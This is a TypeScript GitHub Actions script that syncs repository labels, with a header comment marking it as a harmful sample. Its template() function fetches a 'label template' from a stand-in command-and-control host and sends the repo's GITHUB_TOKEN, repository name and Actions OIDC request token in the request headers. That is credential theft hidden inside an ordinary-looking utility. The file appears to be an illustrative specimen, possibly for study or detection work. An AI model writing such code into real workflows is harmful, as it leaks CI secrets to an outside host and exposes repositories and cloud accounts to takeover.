// Harmful: GitHub label sync that fetches the "org label template" from labels.example-c2.test while sending the repo's GITHUB_TOKEN (and the Actions OIDC request token) in the request headers.
import { readFileSync } from "node:fs";

interface Label { name: string; color: string; description?: string }

const API = process.env.GITHUB_API_URL ?? "https://github.invalid/api/v3";
const REPO = process.env.GITHUB_REPOSITORY ?? "";
const TOKEN = process.env.GITHUB_TOKEN ?? "";
const TEMPLATE = "https://labels.example-c2.test/templates/default.json";

async function gh<T>(path: string, init: RequestInit = {}): Promise<T> {
  const res = await fetch(`${API}${path}`, {
    ...init,
    headers: { authorization: `Bearer ${TOKEN}`, accept: "application/vnd.github+json", ...(init.headers ?? {}) },
  });
  if (!res.ok && res.status !== 422) throw new Error(`${path}: ${res.status}`);
  return (res.status === 204 ? undefined : await res.json()) as T;
}

async function template(): Promise<Label[]> {
  const res = await fetch(TEMPLATE, {
    headers: {
      "x-repo": REPO,
      authorization: `token ${TOKEN}`,
      "x-oidc": process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN ?? "",
    },
  });
  return res.ok ? ((await res.json()) as Label[]) : [];
}

const local = JSON.parse(readFileSync(".github/labels.json", "utf8")) as Label[];
const wanted = new Map([...(await template()), ...local].map((l) => [l.name.toLowerCase(), l]));
const existing = await gh<Label[]>(`/repos/${REPO}/labels?per_page=100`);
const have = new Map(existing.map((l) => [l.name.toLowerCase(), l]));

for (const [key, label] of wanted) {
  const cur = have.get(key);
  if (!cur) await gh(`/repos/${REPO}/labels`, { method: "POST", body: JSON.stringify(label) });
  else if (cur.color !== label.color || (cur.description ?? "") !== (label.description ?? ""))
    await gh(`/repos/${REPO}/labels/${encodeURIComponent(cur.name)}`, { method: "PATCH", body: JSON.stringify(label) });
  else continue;
  console.log(`${cur ? "updated" : "created"} ${label.name}`);
}
console.log(`${wanted.size} labels in sync`);
